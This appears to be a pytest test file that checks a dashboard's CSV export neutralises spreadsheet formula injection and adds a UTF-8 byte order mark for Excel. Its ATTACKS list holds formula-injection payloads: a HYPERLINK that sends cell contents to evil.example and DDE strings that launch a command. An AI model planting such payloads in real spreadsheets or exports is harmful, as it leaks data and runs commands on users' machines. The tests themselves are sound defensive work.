"""Exported CSV cells are inert: a spreadsheet opens hostile report text as text, never as a formula."""
from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from dashboard.enums import Role
from dashboard.services.data import exports
from dashboard.services.tables.spreadsheet import for_excel, frame_csv, inert, rows_csv
from tests.factories import make_report, make_stream, make_user

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+1", "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formula_starts_are_neutralised(cell):
    assert inert(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["shoppers filmed", "a = b", "", 42, -3.5, None])
def test_ordinary_cells_are_left_alone(cell):
    assert inert(cell) == cell


def test_frames_and_rows_come_out_inert():
    parsed = list(csv.reader(io.StringIO(frame_csv(pd.DataFrame({"=title": ATTACKS, "n": range(len(ATTACKS))})))))
    assert parsed[0] == ["'=title", "n"] and all(row[0].startswith("'") for row in parsed[1:])
    assert [row[1] for row in parsed[1:]] == [str(i) for i in range(len(ATTACKS))]
    assert list(csv.reader(io.StringIO(rows_csv(["a"], [["=1+1"]])))) == [["a"], ["'=1+1"]]


def test_report_text_exports_as_text(session):
    admin = make_user(session, role=Role.ADMIN)
    report = make_report(session, stream=make_stream(session))
    report.text = ATTACKS[0]
    session.flush()
    rows = list(csv.DictReader(io.StringIO(exports.export(session, actor=admin, kind="reports"))))
    texts = {r["text"] for r in rows}
    assert "'" + ATTACKS[0] in texts and ATTACKS[0] not in texts


def test_downloads_carry_a_byte_order_mark_for_excel():
    data = for_excel(rows_csv(["直播", "原因"], [["老王面馆", "=1+1"]]))
    assert data.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [["直播", "原因"], ["老王面馆", "'=1+1"]]
